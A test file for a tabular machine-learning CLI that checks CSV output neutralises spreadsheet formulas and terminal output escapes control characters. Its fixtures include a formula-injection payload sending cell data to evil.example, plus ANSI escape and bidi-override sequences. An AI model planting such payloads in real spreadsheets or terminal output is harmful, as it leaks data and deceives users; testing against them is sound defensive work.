/**
 * What the CLI writes is safe to open and to print: the predictions CSV neutralises formula cells
 * (header, input cells, Loupe's own error cells) while numbers stay numbers, and the terminal
 * output (leaderboard, summaries, profile JSON, errors) carries no control characters from the
 * data — they are shown as \uXXXX, and JSON output still parses to the original names.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main';
import { terminalText } from '../../src/cli/terminal-text';
import { generateSampleGemstones } from '../../src/core/sample';

async function run(argv: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main(argv, { out: (t) => (out += t + '\n'), err: (t) => (err += t + '\n') });
  return { code, out, err };
}

/** Control characters a terminal would act on (C0 but line feed, DEL, C1, bidi controls). */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const dir = mkdtempSync(join(tmpdir(), 'loupe-cli-safety-'));
const trainCsv = join(dir, 'train.csv');
const predictCsvPath = join(dir, 'to-predict.csv');
const model = join(dir, 'model.json');
// A column named like a formula, one whose name carries an escape sequence and a bidi override.
const FORMULA_COL = '@carat';
const CONTROL_COL = 'depth\u001b[31m\u009b2J\u202e';
const EXTRA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const EXTRA_CELLS = ['=1+1', '+1+1', '@SUM(A1)', '-5', '\t=2', '-1.5e3', 'plain'];

function renamed(header: string[]): string[] {
  return header.map((h) => (h === 'carat' ? FORMULA_COL : h === 'depth' ? CONTROL_COL : h));
}

beforeAll(() => {
  const rows = Papa.parse<string[]>(generateSampleGemstones(600, 5).trim()).data;
  writeFileSync(trainCsv, Papa.unparse([renamed(rows[0]), ...rows.slice(1)], { newline: '\n' }) + '\n');
  const more = Papa.parse<string[]>(generateSampleGemstones(7, 11).trim()).data;
  const p = more[0].indexOf('price');
  const header = [...renamed(more[0]).filter((_, j) => j !== p), EXTRA];
  const body = more.slice(1).map((r, i) => [...r.filter((_, j) => j !== p), EXTRA_CELLS[i]]);
  body[1][header.indexOf(FORMULA_COL)] = '=2+3'; // not a number: an error cell naming this column
  body[2][header.indexOf(CONTROL_COL)] = 'deep\u001b]0;owned\u0007'; // not a number either
  writeFileSync(predictCsvPath, Papa.unparse([header, ...body], { newline: '\n' }) + '\n');
});

describe('CLI output safety', () => {
  it('escapes control characters, as JSON does, keeping line feeds and tabs', () => {
    expect(terminalText('a\u001b[2Jb\u009b\u202ec\r\nx\ty')).toBe('a\\u001b[2Jb\\u009b\\u202ec\\u000d\nx\ty');
    const json = JSON.stringify({ name: CONTROL_COL });
    expect(JSON.parse(terminalText(json))).toEqual({ name: CONTROL_COL });
  });

  it('train prints its leaderboard and notes without control characters', async () => {
    const r = await run(['train', trainCsv, '--target', 'price', '--models', 'linear', '--seed', '3', '--out', model, '--verbose']);
    expect(r.code).toBe(0);
    expect(r.out + r.err).not.toMatch(CONTROL);
    expect(r.out).toMatch(/best: linear/);
  });

  it('profile prints JSON that parses back to the original column names, with no raw control characters', async () => {
    const r = await run(['profile', trainCsv]);
    expect(r.code).toBe(0);
    expect(r.out).not.toMatch(CONTROL);
    expect(r.out).toContain('depth\\u001b[31m\\u009b2J\\u202e');
    const names = (JSON.parse(r.out) as { columns: { name: string }[] }).columns.map((c) => c.name);
    expect(names).toContain(CONTROL_COL);
  });

  it('predict writes formula cells neutralised, numbers as numbers, and escapes the data in its summary', async () => {
    const out = join(dir, 'pred.csv');
    const r = await run(['predict', model, predictCsvPath, '--out', out]);
    expect(r.code).toBe(0);
    // Text in a number column is read as missing, as loading the training file does: predicted, with a warning.
    expect(r.err).toMatch(/7 rows: 7 predicted, 0 could not be predicted/);
    expect(r.err).toMatch(/warnings: .*2 not-a-number/);
    expect(r.err).not.toMatch(CONTROL);
    expect(r.err).toContain('depth\\u001b[31m\\u009b2J\\u202e');
    const rows = Papa.parse<string[]>(readFileSync(out, 'utf8').trim()).data;
    const header = rows[0];
    expect(header).toContain(`'${EXTRA}`);
    expect(header).toContain(`'${FORMULA_COL}`);
    expect(header).toContain(CONTROL_COL); // a file keeps the data as it is; only terminals get escapes
    const extra = header.indexOf(`'${EXTRA}`);
    expect(rows.slice(1).map((r) => r[extra])).toEqual([`'=1+1`, `'+1+1`, `'@SUM(A1)`, '-5', `'\t=2`, '-1.5e3', 'plain']);
    const pred = header.indexOf('prediction');
    const err = header.indexOf('error');
    const errors = rows.slice(1).map((r) => r[err]).filter(Boolean);
    expect(errors.filter((e) => /is not a number/.test(e))).toHaveLength(2);
    for (const e of errors) expect(e).not.toMatch(/^[=+\-@\t\r]/);
    for (const r of rows.slice(1)) expect(Number.isFinite(Number(r[pred])) && r[pred] !== '').toBe(true);
  });
});
